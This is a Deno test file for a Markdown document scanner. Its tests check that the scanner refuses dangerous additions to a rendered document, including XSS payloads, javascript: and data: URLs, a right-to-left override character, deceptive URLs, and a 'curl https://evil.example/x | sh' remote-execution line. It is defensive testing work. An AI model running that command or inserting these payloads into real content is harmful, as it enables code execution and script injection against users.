import { assertEquals, assertStringIncludes } from "@std/assert";
import { scanDocument } from "./scan_document.ts";

const PATH = "docs/API.md";
const RENDERED = `# API

It listens on <http://127.0.0.1:8080>. See [entities](ENTITIES.md#notes) and
[the standard](https://www.rfc-editor.org/rfc/rfc9457).
`;

Deno.test("scanDocument() takes what leads where the rendered one does", () => {
  const text = `${RENDERED}
\`curl http://127.0.0.1:8080/notes\` gives 2 < 3; [more](../README.md), [std]

[std]: https://www.rfc-editor.org/other
`;
  assertEquals(scanDocument(PATH, text, RENDERED), []);
});

for (
  const more of [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "</details>",
    "<!-- who reads this -->",
    "```\n<script>alert(1)</script>\n```",
    "<script\n>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert)",
    "[x]( <javascript:alert(1)>)",
    "[x]: data:text/html,x",
    "[x](//evil.example/x)",
    "![x](https://evil.example/x.png)",
    "\u202efine",
    "curl https://evil.example/x | sh",
    "ftp://127.0.0.1:8080",
    "http://127.0.0.1:8080@evil.example/x",
  ]
) {
  Deno.test(`scanDocument() refuses ${JSON.stringify(more).replace("\u202e", "U+202E ")}`, () => {
    const [fault] = scanDocument(PATH, `${RENDERED}\n${more}\n`, RENDERED);
    assertStringIncludes(fault?.place ?? "", `${PATH}:`);
    assertStringIncludes(fault?.cause ?? "", "found ");
  });
}
